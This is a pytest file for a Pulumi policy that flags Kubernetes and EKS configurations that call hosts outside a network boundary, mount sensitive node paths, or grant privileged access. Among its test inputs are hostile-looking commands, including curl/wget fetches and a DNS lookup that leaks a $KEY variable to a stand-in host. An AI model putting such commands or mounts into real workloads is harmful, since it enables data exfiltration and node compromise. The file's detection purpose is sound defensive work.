"""What pods are told and may do, and what controllers ask."""

import json

import pytest
import yaml
from pulumi_policy.proxy import UNKNOWN_STRING_VALUE as UNKNOWN_VALUE

from rules.workloads import FLAGS
from tests.policies.analyzer import ACCOUNT, CONFIG, FOREIGN, broken, configured, judge, used
from tests.policies.told_cases import DEPLOYMENT, DIGEST, OWN_IMAGE, OWN_REGISTRY, workload

ADDON = "aws:eks/addon:Addon"
INGRESS = "kubernetes:networking.k8s.io/v1:Ingress"


def told(**more):
    return workload({"name": "app", "image": OWN_IMAGE, **more})


def variables(**values):
    return [{"name": name, "value": value} for name, value in values.items()]


@pytest.mark.parametrize(
    "more",
    [
        {"env": variables(URL="https://x.example/a")},
        {"env": variables(UPSTREAM="postgresql://user:pw@db.example:5432/x")},
        {"args": ["--collector=https://x.example"]},
        {"command": ["curl", "-s", "x.example/a"]},
        {"command": ["sh", "-c", "set -e\nwget x.example/a"]},
        {"args": ["ping", "8.8.8.8"]},
        {"args": ["--endpoint=https://sts.amazonaws.com"]},
        {"command": ["sh", "-c", "pip install boto3"]},
        {"command": ["sh", "-c", "nslookup $KEY.x.example"]},
    ],
)
def test_a_pod_that_is_told_of_a_host_outside_is_found(more):
    assert broken(DEPLOYMENT, told(**more)) == {"CN-200"}


@pytest.mark.parametrize(
    "more",
    [
        {"env": variables(URL="http://collector.tools.svc:4317", DB="db:5432", NAME="x.example")},
        {"env": variables(URL="https://sts.eu-west-1.amazonaws.com", IP="10.0.0.1")},
        {"env": variables(URL=UNKNOWN_VALUE), "args": [UNKNOWN_VALUE]},
        {"env": [{"name": "A", "valueFrom": {"fieldRef": {"fieldPath": "status.podIP"}}}]},
        {"args": ["--v=2", "--tls-min-version=1.2", "--bind-address=0.0.0.0:8080"]},
        {"args": ["--domain-filter=x.example", "--metrics-addr=:8080"]},
        {"command": ["sh", "-c", "# https://x.example\ntrue"]},
    ],
)
def test_what_stays_inside_or_is_only_a_name_passes(more):
    assert broken(DEPLOYMENT, told(**more)) == set()


PROBES = ("livenessProbe", "readinessProbe", "startupProbe")
FIELDS = [
    *({probe: {"httpGet": {"host": "X", "port": 443}}} for probe in PROBES),
    *({probe: {"tcpSocket": {"host": "X", "port": 443}}} for probe in PROBES),
    *({"lifecycle": {hook: {"httpGet": {"host": "X"}}}} for hook in ("postStart", "preStop")),
]
VOLUMES = [
    {"nfs": {"server": "X", "path": "/"}},
    {"iscsi": {"targetPortal": "X:3260"}},
    {"iscsi": {"targetPortal": "10.0.0.9", "portals": ["10.0.0.9:3260", "X:3260"]}},
    {"cephfs": {"monitors": ["X:6789"]}},
    {"rbd": {"monitors": ["10.0.0.9:6789", "X:6789"]}},
    {"csi": {"driver": "nfs.csi.k8s.io", "volumeAttributes": {"server": "X", "share": "/"}}},
    {"csi": {"driver": "smb.csi.k8s.io", "volumeAttributes": {"source": "//X/share"}}},
    {"csi": {"driver": "x.example", "volumeAttributes": {"at": "https://X/share"}}},
    {"flexVolume": {"driver": "x/nfs", "options": {"server": "X"}}},
]


def filled(value, host):
    return json.loads(json.dumps(value).replace("X", host))


HOSTS = [("8.8.8.8", False), ("nfs.example", False), ("10.0.0.9", True), ("nfs.tools.svc", True)]
with_hosts = pytest.mark.parametrize(("host", "inside"), HOSTS)


@with_hosts
@pytest.mark.parametrize("field", FIELDS)
def test_probes_and_hooks_ask_hosts_inside(field, host, inside):
    assert broken(DEPLOYMENT, told(**filled(field, host))) == (set() if inside else {"CN-200"})


@pytest.mark.parametrize("probe", [*PROBES, "postStart", "preStop"])
def test_what_probes_and_hooks_run_is_a_command(probe):
    for host, found in (("x.example", {"CN-200"}), ("x.tools.svc", set())):
        run = {"exec": {"command": ["sh", "-c", f"curl -s https://{host}/"]}}
        more = {probe: run} if probe in PROBES else {"lifecycle": {probe: run}}
        assert broken(DEPLOYMENT, told(**more)) == found


@pytest.mark.parametrize(
    ("options", "inside"),
    [
        (["vers=4.1", "addr=8.8.8.8"], False),
        (["endpoint-url https://x.example"], False),
        (["vers=4.1", "addr=10.0.0.9", "uid=1000"], True),
    ],
)
def test_options_of_mounts_name_hosts_inside(options, inside):
    found = set() if inside else {"CN-200"}
    volume = {"spec": {"mountOptions": options}}
    assert broken("kubernetes:core/v1:PersistentVolume", volume) == found
    assert broken("kubernetes:storage.k8s.io/v1:StorageClass", {"mountOptions": options}) == found


@with_hosts
@pytest.mark.parametrize("volume", VOLUMES)
def test_volumes_lie_on_servers_inside(volume, host, inside):
    found = set() if inside else {"CN-200"}
    held = filled(volume, host)
    pod = {"containers": [{"name": "app", "image": OWN_IMAGE}], "volumes": [held]}
    assert broken("kubernetes:core/v1:Pod", {"spec": pod}) == found
    assert broken("kubernetes:core/v1:PersistentVolume", {"spec": held}) == found


@with_hosts
def test_storage_classes_and_what_pods_resolve_by_name_hosts_inside(host, inside):
    found = set() if inside else {"CN-200"}
    parameters = {"parameters": {"server": host, "share": "/"}}
    assert broken("kubernetes:storage.k8s.io/v1:StorageClass", parameters) == found
    for more in (
        {"dnsConfig": {"nameservers": ["10.0.0.2", host]}},
        {"hostAliases": [{"ip": host, "hostnames": ["a.example"]}]},
    ):
        pod = {"containers": [{"name": "app", "image": OWN_IMAGE}], **more}
        assert broken("kubernetes:core/v1:Pod", {"spec": pod}) == found


@pytest.mark.parametrize(
    ("value", "inside"),
    [
        ("evil.example.com:443", False),
        ("a.internal:9092,b.example.com:9092", True),
        ("a.example.com:9092, b.example.com:9092", False),
        ("db.example.co.uk:5432", False),
        ("redis.cache:6379", True),
        ("app.example.com", False),
        ("app.prod", True),
        ("sqs.eu-west-1.amazonaws.com:443", True),
        ("note: a.example.com:443 is gone", True),
        (UNKNOWN_VALUE, True),
    ],
)
def test_a_variable_that_is_a_host_with_its_port_is_one(value, inside):
    found = set() if inside else {"CN-200"}
    assert broken(DEPLOYMENT, told(env=variables(BROKER=value))) == found


@pytest.mark.parametrize(
    ("name", "called"),
    [
        ("SMTP_HOST", True),
        ("ENDPOINT", True),
        ("DD_SITE", True),
        ("VIRTUAL_HOST", False),
        ("INGRESS_HOST", False),
        ("WEB_HOST", False),
        ("DOMAIN", False),
        ("HOSTNAME", False),
        ("CERT_COMMON_NAME", False),
    ],
)
def test_a_host_alone_counts_where_the_variable_s_name_says_that_it_is_called(name, called):
    found = {"CN-200"} if called else set()
    assert broken(DEPLOYMENT, told(env=variables(**{name: "app.example.com"}))) == found


@pytest.mark.parametrize(
    ("args", "called"),
    [
        (["--log-server=app.example.com"], True),
        (["-remote", "app.example.com"], True),
        (["--hostname=app.example.com"], False),
        (["--domain-filter", "app.example.com"], False),
        (["--server=app.prod"], False),
        (["--server"], False),
    ],
)
def test_a_host_alone_counts_where_the_option_says_that_it_is_called(args, called):
    assert broken(DEPLOYMENT, told(args=args)) == ({"CN-200"} if called else set())


@pytest.mark.parametrize(
    ("role", "inside"),
    [
        (f"arn:aws:iam::{ACCOUNT}:role/app", True),
        (f"arn:aws:iam::{FOREIGN}:role/app", False),
        ("app", False),
        (UNKNOWN_VALUE, True),
    ],
)
def test_a_service_account_takes_a_role_of_an_own_account(role, inside):
    notes = {"metadata": {"annotations": {"eks.amazonaws.com/role-arn": role}}}
    found = set() if inside else {"CN-074"}
    assert broken("kubernetes:core/v1:ServiceAccount", notes) == found


def field(name, path):
    return {"name": name, "valueFrom": {"fieldRef": {"fieldPath": path}}}


URL = variables(URL="http://$(H):8080")
API = "https://$(KUBERNETES_SERVICE_HOST):$(KUBERNETES_SERVICE_PORT)"


@pytest.mark.parametrize(
    ("more", "inside"),
    [
        ({"env": [field("H", "status.podIP"), *URL]}, True),
        ({"env": [field("H", "status.hostIP"), *URL]}, True),
        ({"env": variables(H="db.apps.svc") + URL}, True),
        ({"env": variables(G="db", H="$(G).apps.svc") + URL}, True),
        ({"env": variables(H="db.svc"), "args": ["--url=http://$(H)/"]}, True),
        ({"env": [field("H", "metadata.name"), *variables(URL="http://$(H).apps.svc/")]}, True),
        ({"env": [field("H", "metadata.name"), *variables(URL="http://$(H).x.example/")]}, False),
        ({"env": [field("H", "status.podIP")], "args": ["sh", "-c", "curl http://$H/"]}, True),
        ({"args": ["sh", "-c", "curl http://${HOSTNAME}:80/"]}, True),
        ({"env": variables(H="x.example"), "args": ["sh", "-c", "curl http://${H}/"]}, False),
        ({"env": variables(H="db.svc"), "args": ["sh", "-c", "H=$A; curl http://${H}/"]}, False),
        ({"env": variables(A=API)}, True),
        ({"env": variables(H="x.example") + URL}, False),
        ({"env": variables(H="x.example"), "args": ["--url=http://$(H)/"]}, False),
        ({"env": variables(G="x.example", H="$(G)") + URL}, False),
        ({"env": variables(H="db.svc") + variables(H="x.example") + URL}, False),
        ({"env": variables(KUBERNETES_SERVICE_HOST="x.example", A=API)}, False),
        ({"env": variables(A=API), "envFrom": [{"configMapRef": {"name": "any"}}]}, False),
        ({"env": [*variables(A=API), {"name": UNKNOWN_VALUE, "value": "x"}]}, False),
        ({"env": [field("H", "metadata.annotations['h']"), *URL]}, False),
        ({"env": variables(H="db.svc", URL="http://$$(H)/")}, False),
        ({"env": URL}, False),
    ],
)
def test_what_kubernetes_fills_in_is_looked_at_where_it_is_known(more, inside):
    assert broken(DEPLOYMENT, told(**more)) == (set() if inside else {"CN-200"})


def test_urls_in_objects_of_others_and_in_annotations_that_act_are_found():
    issuer = "kubernetes:cert-manager.io/v1:ClusterIssuer"
    judged = configured({**CONFIG, "apiGroups": [used("cert-manager.io")]})
    asking = {"spec": {"acme": {"server": "https://acme.example/directory"}}}
    assert broken(issuer, asking, servicer=judged) == {"CN-200"}
    assert broken(issuer, {"spec": {"ca": {"secretName": "x.example"}}}, servicer=judged) == set()
    scheme = {"alb.ingress.kubernetes.io/scheme": "internal"}

    def noted(**notes):
        annotations = {**scheme, **{key.replace("__", "/"): value for key, value in notes.items()}}
        return {"metadata": {"annotations": annotations}}

    asked = {"nginx.ingress.kubernetes.io__auth-url": "https://id.example/auth"}
    assert broken(INGRESS, noted(**asked)) == {"CN-200"}
    assert broken(INGRESS, noted(**{"docs__see": "https://docs.example"})) == set()


GROUPS = (
    "argoproj.io cilium.io crd.projectcalico.org externaldns.k8s.io keda.sh monitoring.coreos.com "
    "networking.istio.io source.toolkit.fluxcd.io"
)


def of_others(typ, **spec):
    """What is broken by an object of a group that the boundary lists."""
    judged = configured({**CONFIG, "apiGroups": [used(*GROUPS.split())]})
    return broken(f"kubernetes:{typ}", {"spec": spec}, servicer=judged)


def scaled(**metadata):
    return {"triggers": [{"type": "x", "metadata": metadata}]}


@pytest.mark.parametrize(
    ("typ", "spec"),
    [
        ("networking.istio.io/v1:ServiceEntry", {"hosts": ["*.X"]}),
        ("networking.istio.io/v1:ServiceEntry", {"endpoints": [{"address": "X"}]}),
        ("networking.istio.io/v1:WorkloadEntry", {"address": "X"}),
        ("cilium.io/v2:CiliumNetworkPolicy", {"egress": [{"toFQDNs": [{"matchName": "X"}]}]}),
        ("cilium.io/v2:CiliumEgressGatewayPolicy", {"egressGateway": {"egressIP": "X"}}),
        ("crd.projectcalico.org/v1:BGPPeer", {"peerIP": "X"}),
        ("source.toolkit.fluxcd.io/v1:Bucket", {"endpoint": "X"}),
        ("argoproj.io/v1alpha1:Application", {"source": {"repoURL": "git@X:team/app.git"}}),
        ("argoproj.io/v1alpha1:Application", {"source": {"repoURL": "X/charts"}}),
        ("monitoring.coreos.com/v1alpha1:ScrapeConfig", {"staticConfigs": [{"targets": ["X:1"]}]}),
        ("externaldns.k8s.io/v1alpha1:DNSEndpoint", {"endpoints": [{"targets": ["X"]}]}),
        ("keda.sh/v1alpha1:ScaledObject", scaled(serverAddress="https://X")),
    ],
)
def test_whom_objects_of_known_controllers_call_lies_inside(typ, spec):
    for host, found in (("x.example", {"CN-200"}), ("x.tools.svc", set())):
        assert of_others(typ, **filled(spec, host)) == found


@pytest.mark.parametrize(
    ("typ", "spec"),
    [
        ("networking.istio.io/v1:VirtualService", {"hosts": ["app.example.com"]}),
        ("networking.istio.io/v1:Gateway", {"servers": [{"hosts": ["app.example.com"]}]}),
        ("cilium.io/v2:CiliumNetworkPolicy", {"ingress": [{"fromCIDR": ["0.0.0.0/0"]}]}),
        ("cilium.io/v2:CiliumNetworkPolicy",
         {"egress": [{"toCIDRSet": [{"cidr": "10.0.0.0/8", "except": ["10.9.0.0/16"]}]}]}),
        ("cilium.io/v2:CiliumNetworkPolicy", {"egressDeny": [{"toCIDR": ["0.0.0.0/0"]}]}),
        ("crd.projectcalico.org/v1:GlobalNetworkPolicy",
         {"egress": [{"action": "Deny", "destination": {"nets": ["0.0.0.0/0"]}}]}),
        ("argoproj.io/v1alpha1:Application", {"destination": {"namespace": "app.example"}}),
    ],
)  # fmt: skip
def test_what_is_served_or_let_in_is_not_called(typ, spec):
    assert of_others(typ, **spec) == set()


@pytest.mark.parametrize(
    ("typ", "spec"),
    [
        ("cilium.io/v2:CiliumNetworkPolicy", {"egress": [{"toCIDR": ["0.0.0.0/0"]}]}),
        ("cilium.io/v2:CiliumNetworkPolicy", {"egress": [{"toCIDRSet": [{"cidr": "8.0.0.0/8"}]}]}),
        ("cilium.io/v2:CiliumEgressGatewayPolicy", {"destinationCIDRs": ["0.0.0.0/0"]}),
        ("crd.projectcalico.org/v1:GlobalNetworkPolicy",
         {"egress": [{"destination": {"nets": ["10.0.0.0/8", "0.0.0.0/0"]}}]}),
    ],
)  # fmt: skip
def test_policies_of_other_controllers_let_pods_send_inside_alone(typ, spec):
    assert of_others(typ, **spec) == {"CN-149"}


@pytest.mark.parametrize(
    ("note", "value", "rule"),
    [
        ("vault.hashicorp.com/service", "https://vault.example:8200", "CN-200"),
        ("sidecar.istio.io/proxyImage", f"docker.io/istio/proxyv2{DIGEST}", "CN-145"),
        ("config.linkerd.io/proxy-image", f"{OWN_REGISTRY}/proxy{DIGEST}", None),
        ("team.example/image", f"docker.io/team/app{DIGEST}", None),
        ("team.example/runbook", "https://wiki.example", None),
    ],
)
def test_annotations_of_pods_that_controllers_act_on_are_read(note, value, rule):
    pod = {"containers": [{"name": "app", "image": OWN_IMAGE}]}
    template = {"metadata": {"annotations": {note: value}}, "spec": pod}
    assert broken(DEPLOYMENT, {"spec": {"template": template}}) == ({rule} if rule else set())


@pytest.mark.parametrize("target", ["x.example", "10.0.0.9,8.8.8.8"])
def test_records_that_are_asked_for_lead_inside(target):
    notes = {"external-dns.alpha.kubernetes.io/hostname": "app.example"}
    served = {"metadata": {"annotations": notes}}
    assert broken("kubernetes:core/v1:Service", served) == set()
    notes["external-dns.alpha.kubernetes.io/target"] = target
    assert broken("kubernetes:core/v1:Service", served) == {"CN-200"}


@pytest.mark.parametrize("namespace", ["kube-system", "apps", None, UNKNOWN_VALUE])
def test_the_node_s_network_is_for_the_system_alone(namespace):
    pod = {"containers": [{"image": OWN_IMAGE}], "hostNetwork": True}
    props = {"metadata": {"namespace": namespace}, "spec": {"template": {"spec": pod}}}
    assert broken(DEPLOYMENT, props) == (set() if namespace == "kube-system" else {"CN-148"})


def mounted(path, **mount):
    """A pod that is given a path of its node."""
    container = {"image": OWN_IMAGE, "volumeMounts": [{"name": "v", "mountPath": "/v", **mount}]}
    volume = {"name": "v", "hostPath": {"path": path}}
    return {"spec": {"template": {"spec": {"containers": [container], "volumes": [volume]}}}}


@pytest.mark.parametrize(
    ("path", "read_only", "found"),
    [
        ("/", True, True),
        ("/run/containerd/containerd.sock", True, True),
        ("/var/run/docker.sock", True, True),
        ("//var/../run/crio/crio.sock", True, True),
        ("/var/lib/kubelet/pods", True, True),
        ("/etc/kubernetes/pki", True, True),
        ("/etc/cron.d", False, True),
        ("/etc/machine-id", True, False),
        ("/usr/local/bin", False, True),
        ("/opt/cni/bin", True, False),
        ("/run/log/journal", True, False),
        ("/var/log", False, False),
        ("/var/lib/app", False, False),
        ("/etcetera", False, False),
        (UNKNOWN_VALUE, True, True),
    ],
)
def test_what_a_pod_is_given_of_its_node_is_asked_for(path, read_only, found):
    given = mounted(path, readOnly=True) if read_only else mounted(path)
    assert broken(DEPLOYMENT, given) == ({"CN-148"} if found else set())


@pytest.mark.parametrize(
    ("spec", "found"),
    [
        ({"hostPath": {"path": "/run/containerd"}}, True),
        ({"local": {"path": "/"}}, True),
        ({"hostPath": {"path": "/usr/local/bin"}}, True),
        ({"local": {"path": "/mnt/disks/1"}}, False),
    ],
)
def test_volumes_of_a_node_are_asked_for_whoever_claims_them(spec, found):
    given = broken("kubernetes:core/v1:PersistentVolume", {"spec": spec})
    assert given == ({"CN-148"} if found else set())


@pytest.mark.parametrize(
    ("more", "own", "found"),
    [
        ({}, {"hostIPC": True}, True),
        ({}, {"hostIPC": False}, False),
        ({"procMount": "Unmasked"}, {}, True),
        ({"procMount": "Unmasked"}, {"hostUsers": False}, False),
        ({"procMount": "Default"}, {}, False),
    ],
)
def test_what_a_pod_sees_of_its_node_s_processes(more, own, found):
    pod = {"containers": [{"image": OWN_IMAGE, "securityContext": more}], **own}
    given = broken(DEPLOYMENT, {"spec": {"template": {"spec": pod}}})
    assert given == ({"CN-148"} if found else set())


@pytest.mark.parametrize(
    ("more", "found"),
    [
        ({"capabilities": {"add": ["CAP_SYS_ADMIN"]}}, True),
        ({"capabilities": {"add": ["NET_BIND_SERVICE", "all"]}}, True),
        ({"capabilities": {"add": ["NET_ADMIN"], "drop": ["ALL"]}}, False),
        ({"windowsOptions": {"hostProcess": True}}, True),
        ({"capabilities": {"add": [{"name": "SYS_ADMIN"}, ["BPF"]]}}, False),  # no API takes it
        ({"privileged": False}, False),
    ],
)
def test_what_is_as_much_as_privileged_is_refused(more, found):
    given = workload({"image": OWN_IMAGE, "securityContext": more})
    assert broken(DEPLOYMENT, given) == ({"CN-148"} if found else set())


def controller(name, **more):
    return workload({"image": f"{OWN_REGISTRY}/mirror/{name}{DIGEST}", **more})


def flags(name):
    return [f"{flag}={wanted}" for flag, _, wanted in FLAGS[name]]


@pytest.mark.parametrize("name", FLAGS)
def test_a_controller_needs_each_of_its_flags(name):
    given = flags(name)
    assert broken(DEPLOYMENT, controller(name, args=given)) == set()
    assert broken(DEPLOYMENT, controller(name, command=["/bin/x", *given])) == set()
    for index in range(len(given)):
        without = given[:index] + given[index + 1 :]
        assert broken(DEPLOYMENT, controller(name, args=without)) == {"CN-203"}
        wrong = "true" if given[index].endswith("false") else "false"
        turned = [*given, f"{given[index].partition('=')[0]}={wrong}"]
        assert broken(DEPLOYMENT, controller(name, args=turned)) == {"CN-203"}, "the last counts"


def test_karpenter_is_known_by_its_image_and_by_its_label_and_told_by_a_variable():
    isolated = {"env": variables(ISOLATED_VPC="true")}
    assert broken(DEPLOYMENT, controller("karpenter/controller", **isolated)) == set()
    own = told(name="controller")
    labelled = {"metadata": {"labels": {"app.kubernetes.io/name": "karpenter"}}, **own}
    assert broken(DEPLOYMENT, own) == set()
    assert broken(DEPLOYMENT, labelled) == {"CN-203"}


@pytest.mark.parametrize("name", ["aws-load-balancer-controller", "aws-alb-ingress-controller"])
def test_a_controller_of_load_balancers_takes_the_usual_annotations(name):
    own = flags("aws-load-balancer-controller")
    for flag, found in (
        ("--annotations-prefix=alb.ingress.kubernetes.io", set()),
        ("-annotations-prefix=lb.example", {"CN-142"}),
        ("--annotations-prefix", {"CN-142"}),
    ):
        assert broken(DEPLOYMENT, controller(name, args=[*own, flag])) == found
    other = controller("ingress-nginx", args=["--annotations-prefix=nginx.ingress.kubernetes.io"])
    assert broken(DEPLOYMENT, other) == set()


@pytest.mark.parametrize(
    "values",
    [
        {"manager": {"image": "{}"}},
        {"agents": [{"sidecarImage": "{}"}]},
        {"image": {"repository": "{}"}},
    ],
)
def test_images_of_an_add_on_are_of_a_registry_inside(values):
    for registry, found in ((OWN_REGISTRY, set()), ("public.ecr.aws", {"CN-145"})):
        text = json.dumps(values).replace("{}", f"{registry}/org/agent{DIGEST}")
        assert broken(ADDON, add_on(text, "adot")) == found
        loose = text.replace(DIGEST, "")
        assert broken(ADDON, add_on(loose, "adot")) == {*found, "CN-146"}
    assert broken(ADDON, add_on("{: [", "adot")) == {"CN-200"}


def add_on(values, name="vpc-cni"):
    return {"addonName": name, "configurationValues": values}


OFF = {"ENABLE_SUBNET_DISCOVERY": "false"}


@pytest.mark.parametrize(
    ("env", "closed"),
    [
        (OFF, True),
        ({"ENABLE_SUBNET_DISCOVERY": False}, True),
        ({**OFF, "AWS_VPC_K8S_CNI_EXTERNALSNAT": "false", "WARM_ENI_TARGET": "1"}, True),
        ({}, False),
        ({"ENABLE_SUBNET_DISCOVERY": "true"}, False),
        ({**OFF, "ENABLE_V6_EGRESS": "true"}, False),
        ({**OFF, "AWS_VPC_K8S_CNI_EXTERNALSNAT": "true"}, False),
    ],
)
def test_settings_of_the_vpc_cni(env, closed):
    wanted = set() if closed else {"CN-204"}
    assert broken(ADDON, add_on(json.dumps({"env": env}))) == wanted
    container = {"name": "aws-node", "image": OWN_IMAGE, "env": variables(**env)}
    assert broken("kubernetes:apps/v1:DaemonSet", workload(container)) == wanted
    sidecar = {**container, "name": "aws-eks-nodeagent"}
    assert broken("kubernetes:apps/v1:DaemonSet", workload(sidecar)) == set()


@pytest.mark.parametrize("values", [None, "", "{: [", UNKNOWN_VALUE, "[]", "env: 1"])
def test_settings_of_the_vpc_cni_that_are_not_there_or_cannot_be_read(values):
    assert broken(ADDON, add_on(values)) == {"CN-204"}


OVERRIDE = {"agent": {"config": {"logs": {"endpoint_override": "https://x.far.example"}}}}
EXPORTS = {"collector": {"otlpIngest": {"exporters": {"otlp": {"endpoint": "x.far.example:4317"}}}}}
FAR = {"HTTPS_PROXY": "http://proxy.example:3128", "NO_PROXY": "*"}
NEAR = {"HTTPS_PROXY": "http://proxy.internal:3128", "NO_PROXY": "169.254.170.23,.svc"}


@pytest.mark.parametrize(
    ("name", "values", "rules"),
    [
        ("amazon-cloudwatch-observability", OVERRIDE, {"CN-200"}),
        ("adot", EXPORTS, {"CN-200"}),
        ("adot", {"endpoint": "8.8.8.8"}, {"CN-200"}),
        ("adot", {"args": ["--endpoint=https://x.far.example"]}, {"CN-200"}),
        (
            "adot",
            {"config": "exporters:\n  otlp:\n    endpoint: https://a.b.example\n"},
            {"CN-200"},
        ),
        ("vpc-cni", {"env": OFF, "init": {"url": "https://x.far.example"}}, {"CN-200"}),
        ("x", {"extraEnv": variables(URL="https://x.far.example")}, {"CN-200"}),
        ("x", {"extraEnv": variables(**FAR)}, {"CN-209"}),
        ("x", {"env": FAR}, {"CN-209"}),
        ("x", {"env": {**NEAR, "NO_PROXY": ".svc"}}, {"CN-209"}),
        (UNKNOWN_VALUE, {"extraEnv": variables(URL="https://x.far.example")}, {"CN-200"}),
        (
            "x",
            {"env": NEAR, "extraEnv": variables(URL="https://sts.eu-west-1.amazonaws.com")},
            set(),
        ),
        ("x", {"endpoint": "collector.tools.svc:4317", "address": "10.0.0.9", "n": 1}, set()),
        ("x", {"docs": "https://docs.example", "version": "1.2.3", "zone": "x.far.example"}, set()),
    ],
)
@pytest.mark.parametrize("write", [json.dumps, yaml.safe_dump])
def test_an_add_on_is_told_of_hosts_and_proxies_inside(name, values, rules, write):
    assert broken(ADDON, add_on(write(values), name)) == rules


@pytest.mark.parametrize("name", ["adot", UNKNOWN_VALUE])
def test_what_an_add_on_is_told_can_be_read(name):
    unread = {"CN-200", "CN-157", "CN-204"} if name == UNKNOWN_VALUE else {"CN-200"}
    assert broken(ADDON, add_on("{: [", name)) == unread


def test_an_add_on_without_values_that_are_known_is_told_of_nothing():
    for values in (None, "", UNKNOWN_VALUE):
        assert broken(ADDON, add_on(values, "adot")) == set()


@pytest.mark.parametrize(
    ("address", "inside"),
    [("10.0.0.9", True), ("8.8.8.8", False), ("169.254.169.254", False), ("", False)],
)
def test_endpoints_have_addresses_inside(address, inside):
    wanted = set() if inside else {"CN-149"}
    endpoints = {"subsets": [{"addresses": [{"ip": address}]}]}
    assert broken("kubernetes:core/v1:Endpoints", endpoints) == wanted
    slices = {"endpoints": [{"addresses": [address]}]}
    assert broken("kubernetes:discovery.k8s.io/v1:EndpointSlice", slices) == wanted


@pytest.mark.parametrize(
    ("peer", "inside"),
    [
        ({"ipBlock": {"cidr": "10.0.0.0/16"}}, True),
        ({"podSelector": {}}, True),
        ({"ipBlock": {"cidr": "169.254.170.23/32"}}, True),
        ({"ipBlock": {"cidr": "169.254.169.254/32"}}, False),
        ({"ipBlock": {"cidr": "169.254.0.0/16"}}, False),
        ({"ipBlock": {"cidr": "0.0.0.0/0", "except": ["169.254.169.254/32"]}}, False),
        ({"ipBlock": UNKNOWN_VALUE}, False),
    ],
)
def test_a_policy_lets_pods_at_addresses_inside(peer, inside):
    props = {"spec": {"egress": [{"to": [{"podSelector": {}}, peer]}]}}
    wanted = set() if inside else {"CN-149"}
    assert broken("kubernetes:networking.k8s.io/v1:NetworkPolicy", props) == wanted


def test_a_proxy_of_pods_is_told_by_its_host_alone():
    env = variables(http_proxy="http://user:hunter2@proxy.example:3128", no_proxy="*")
    (found,) = judge(DEPLOYMENT, told(env=env))
    assert "sets http_proxy to proxy.example, which is a host outside the boundary." in (
        found.message
    )
    assert "hunter2" not in found.message
    near = variables(HTTPS_PROXY="http://proxy.internal:3128", NO_PROXY="10.0.0.0/8")
    (found,) = judge(DEPLOYMENT, told(env=near))
    assert "has NO_PROXY lack 169.254.170.23, kubernetes.default.svc." in found.message


def test_declared_hosts_are_inside():
    env = variables(A="https://git.corp.example/x", B="https://a.inside.example")
    judged = configured({**CONFIG, "hosts": ["git.corp.example", ".inside.example"]})
    assert broken(DEPLOYMENT, told(env=env), servicer=judged) == set()
    assert broken(DEPLOYMENT, told(env=env)) == {"CN-200"}
